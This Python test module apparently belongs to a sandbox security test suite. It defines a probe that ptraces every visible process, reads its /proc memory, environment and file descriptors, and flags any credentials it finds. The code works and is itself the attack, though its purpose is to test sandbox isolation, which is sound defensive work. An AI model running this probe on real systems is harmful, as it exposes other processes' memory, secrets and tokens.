"""(d) Look into every visible process: ptrace ATTACH/SEIZE (ctypes) of the parent and of every pid,
process_vm_readv, /proc/<pid>/mem (first readable mapping), environ, cmdline, status, fd, cwd, root.
Whatever works on a process that is not the attacker's own is reported; everything read is printed."""

from tests.attacks._common import prelude

ASSIGNMENT = "regression"
GOAL = "ptrace the parent, read /proc/<pid>/mem, environ and cmdline of every visible process."
WITH_SOLUTION = True

CODE = prelude(ASSIGNMENT) + r'''
import ctypes as _rt_ct

_rt_libc = _rt_ct.CDLL(None, use_errno=True)
_rt_libc.ptrace.restype = _rt_ct.c_long
_RT_ME = _rt_os.getpid()


class _rt_iovec(_rt_ct.Structure):
    _fields_ = [("base", _rt_ct.c_void_p), ("len", _rt_ct.c_size_t)]


def _rt_read(path, n=400):
    try:
        with open(path, "rb") as f:
            return f.read(n)
    except OSError as exc:
        return exc


def _rt_probe(pid):
    got = {}
    for what in ("cmdline", "environ", "status", "maps", "stack", "syscall", "auxv"):
        v = _rt_read(f"/proc/{pid}/{what}")
        got[what] = v if isinstance(v, bytes) else type(v).__name__
    for what in ("cwd", "root", "exe"):
        try:
            got[what] = _rt_os.readlink(f"/proc/{pid}/{what}")
        except OSError as exc:
            got[what] = type(exc).__name__
    try:
        got["fds"] = {fd: _rt_os.readlink(f"/proc/{pid}/fd/{fd}") for fd in _rt_os.listdir(f"/proc/{pid}/fd")}
    except OSError as exc:
        got["fds"] = type(exc).__name__
    maps = got.get("maps")
    if isinstance(maps, bytes) and maps:
        try:
            lo = int(maps.split(b"-", 1)[0], 16)
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.seek(lo)
                got["mem"] = f.read(64)
        except (OSError, ValueError) as exc:
            got["mem"] = type(exc).__name__
        try:
            buf = _rt_ct.create_string_buffer(64)
            local, remote = _rt_iovec(_rt_ct.addressof(buf), 64), _rt_iovec(lo, 64)
            n = _rt_libc.process_vm_readv(pid, _rt_ct.byref(local), 1, _rt_ct.byref(remote), 1, 0)
            got["vm_readv"] = buf.raw[:n] if n > 0 else f"errno {_rt_ct.get_errno()}"
        except BaseException as exc:
            got["vm_readv"] = repr(exc)
    for req, name in ((16, "ATTACH"), (0x4206, "SEIZE")):
        r = _rt_libc.ptrace(_rt_ct.c_long(req), _rt_ct.c_long(pid), None, None)
        got["ptrace " + name] = "OK" if r == 0 else f"errno {_rt_ct.get_errno()}"
        if r == 0:
            _rt_libc.ptrace(_rt_ct.c_long(17), _rt_ct.c_long(pid), None, None)  # DETACH
    return got


_rt_mine = {_RT_ME}
for _rt_p in sorted((int(p) for p in _rt_os.listdir("/proc") if p.isdigit())):
    _rt_got = _rt_probe(_rt_p)
    _rt_note(f"pid {_rt_p}:", {k: (v[:160] if isinstance(v, bytes) else v) for k, v in _rt_got.items()})
    if _rt_p in _rt_mine:
        continue
    for _rt_k in ("environ", "mem", "vm_readv", "stack", "syscall", "auxv"):
        if isinstance(_rt_got.get(_rt_k), bytes) and _rt_got[_rt_k]:
            _rt_mark("BREACH", f"read-{_rt_k}", f"pid {_rt_p}: {_rt_got[_rt_k][:200]!r}")
    for _rt_k in ("ptrace ATTACH", "ptrace SEIZE"):
        if _rt_got.get(_rt_k) == "OK":
            _rt_mark("BREACH", "ptrace", f"pid {_rt_p} ({_rt_k})")
    if isinstance(_rt_got.get("fds"), dict):
        _rt_mark("BREACH", "fd-list", f"pid {_rt_p}: {_rt_got['fds']}")
    _rt_env = _rt_got.get("environ")
    if isinstance(_rt_env, bytes) and any(w in _rt_env.upper() for w in (b"SECRET", b"TOKEN", b"KEY=")):
        _rt_mark("LEAK", "environ-secret", _rt_env[:300])
'''
